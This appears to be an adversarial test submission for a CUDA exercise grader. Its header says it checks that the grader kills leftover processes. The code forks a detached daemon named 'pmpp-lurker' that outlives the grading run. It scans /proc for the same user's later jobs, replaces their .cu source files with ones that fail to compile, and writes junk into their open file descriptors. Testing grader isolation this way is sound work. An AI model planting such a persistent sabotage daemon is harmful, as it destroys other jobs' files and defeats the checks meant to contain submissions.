// attack: leave a daemon (forked twice, in its own session, named pmpp-lurker) that outlives grade if
//         grade is killed, and for five minutes lies in wait for the later jobs of its user (the
//         next run's compiles and cases in the same slot): it replaces every .cu file in their
//         working and temporary folders with one that does not compile, and writes junk into every
//         descriptor of theirs it can open. The case it starts in stays open for five seconds, time
//         enough to interrupt grade while it runs. The next run ends it before anything runs.
// exercise: max_reduction
// base: starter
// earns: nothing
#include <sys/prctl.h>
namespace {
struct LurkForLaterRuns {
  /// Replace every .cu file in @p folder and below: the folder is the job's user's, so a file in it
  /// can be replaced whoever owns it.
  static int spoil(const std::string& folder, int depth) {
    int spoiled = 0;
    DIR* d = opendir(folder.c_str());
    if (d == nullptr) return 0;
    while (dirent* e = readdir(d)) {
      const std::string name = e->d_name, path = folder + "/" + name;
      struct stat st {};
      if (name == "." || name == ".." || lstat(path.c_str(), &st) != 0) continue;
      if (S_ISDIR(st.st_mode) && depth < 3) {
        spoiled += spoil(path, depth + 1);
      } else if (S_ISREG(st.st_mode) && name.size() > 3 && name.compare(name.size() - 3, 3, ".cu") == 0) {
        unlink(path.c_str());
        spoiled += attack::write_file(path, "#error spoiled by a daemon that an earlier run of grade left\n");
      }
    }
    closedir(d);
    return spoiled;
  }

  LurkForLaterRuns() {
    if (fork() != 0) {
      sleep(5);
      return;
    }
    setsid();
    if (fork() != 0) _exit(0);
    prctl(PR_SET_NAME, "pmpp-lurker");
    const uid_t me = getuid();
    const std::string self = std::to_string(getpid());
    for (int round = 0; round < 30000; ++round) {  // five minutes
      for (const std::string& pid : attack::numbered("/proc")) {
        struct stat st {};
        const std::string proc = "/proc/" + pid;
        if (pid == self || stat(proc.c_str(), &st) != 0 || st.st_uid != me) continue;
        spoil(proc + "/cwd", 0);
        spoil(proc + "/root/tmp", 0);
        for (const std::string& fd : attack::numbered(proc + "/fd")) {
          const int out = open((proc + "/fd/" + fd).c_str(), O_WRONLY | O_NONBLOCK);
          if (out < 0) continue;
          if (write(out, "junk from an earlier run\n", 25) < 0) {}
          close(out);
        }
      }
      usleep(10000);
    }
    _exit(0);
  }
} lurk_for_later_runs;
}  // namespace
